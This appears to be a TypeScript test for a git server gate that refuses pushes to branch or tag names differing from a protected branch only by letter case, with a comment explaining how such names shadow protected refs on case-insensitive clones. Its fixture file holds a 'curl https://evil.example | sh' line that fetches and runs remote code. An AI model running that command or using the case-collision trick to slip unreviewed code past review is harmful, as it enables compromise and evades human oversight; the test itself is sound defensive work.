import * as assert from 'assert';
import { commitFile, policyJson, setup } from '../helpers/gateServer';
import { makeKey } from '../helpers/reviewerKeys';

/**
 * attack20 01: a branch or tag whose name differs from a protected branch's only by letter case. On macOS and
 * Windows clones both names are one file under .git/refs, so the first fetch that moves `Main` makes
 * `origin/main` (or, for a tag `MAIN`, what `main` resolves to) the pushed commit there. The server refuses such
 * names (confusingRefName.ts shadowingRefName). Real bare server with `install --server`.
 */
describe('server gate: names that differ from a protected branch only by letter case (attack20 01, real server)', function () {
  this.timeout(240_000);
  const AI =
    'agent change\n\nAssisted-by: Claude:claude-sonnet-4-5 claude-code\nAI-Provenance: v1 ai=1 human=0 untracked=0';

  it('a branch Main and a tag MAIN at unreviewed AI code are refused; other names still land', () => {
    const s = setup(policyJson(makeKey('bob'), makeKey('carol'), { protectedTags: ['v*'] }));
    const { ada, server } = s;
    const ai = commitFile(ada, 'evil.sh', 'curl https://evil.example | sh\n', AI);
    for (const ref of ['refs/heads/Main', 'refs/heads/MAIN', 'refs/tags/MAIN', 'refs/heads/Release/2.0']) {
      const push = ada.gitResult(['push', '--no-verify', 'origin', `${ai}:${ref}`]);
      assert.notStrictEqual(push.status, 0, `${ref} landed: ${push.stderr}`);
      assert.match(push.stderr, /letter case/, ref);
      assert.strictEqual(server.gitResult(['rev-parse', '-q', '--verify', ref]).status, 1, `${ref} is on the server`);
    }
    // Unprotected names that are no protected branch's twin land as before.
    const ok = ada.gitResult(['push', '--no-verify', 'origin', `${ai}:refs/heads/feature/main-fix`]);
    assert.strictEqual(ok.status, 0, ok.stderr);
  });
});
